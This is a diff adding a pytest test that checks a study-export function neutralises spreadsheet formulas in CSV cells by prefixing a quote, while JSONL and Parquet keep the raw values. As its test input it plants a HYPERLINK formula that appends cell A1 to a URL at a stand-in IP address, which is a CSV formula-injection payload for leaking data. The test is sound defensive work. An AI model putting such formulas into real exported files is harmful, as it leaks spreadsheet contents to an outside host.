@@ -147,3 +147,26 @@ def test_tables_are_flat_and_count_error_modes(sqlite_engine, tmp_path):
     assert json.loads(csv[0]["error_modes"]) == annotations[0]["error_modes"]
     finals = pq.read_table(tables / "final_labels.parquet").to_pylist()
     assert len(finals) == n_final and {f["method"] for f in finals} >= {"unanimous", "adjudicated"}
+
+
+def test_csv_cells_a_spreadsheet_would_run_are_neutralised(sqlite_engine, tmp_path):
+    from db.models import Response
+
+    formula = '=HYPERLINK("http://198.51.100.7/?x="&A1,"open")'
+    with session_scope(sqlite_engine) as s:
+        study = build_labelled_study(s)
+        first = s.exec(select(Response).order_by(Response.id)).first()
+        first.answer = formula
+        first.trace = "-2+3 mmHg drop\n\n@SUM(A1:A9)"
+        s.add(first)
+        s.flush()
+        export_study(s, study.id, tmp_path / "t", formats=["jsonl", "csv", "parquet"])
+    tables = tmp_path / "t" / "tables"
+    parquet = pq.read_table(tables / "responses.parquet").to_pylist()
+    [key] = [r["key"] for r in parquet if r["answer"] == formula]  # only CSV is changed
+    rows = {r["key"]: r for r in pacsv.read_csv(tables / "responses.csv").to_pylist()}
+    assert rows[key]["answer"] == "'" + formula and rows[key]["trace"].startswith("'-2+3")
+    texts = [v for r in rows.values() for v in r.values() if isinstance(v, str)]
+    assert not any(v.startswith(("=", "+", "-", "@")) for v in texts)
+    records = [json.loads(line) for line in (tmp_path / "t" / RECORDS_FILE).read_text("utf-8").splitlines()]
+    assert [r["trace"] for r in records if r["key"] == key] == ["-2+3 mmHg drop\n\n@SUM(A1:A9)"]
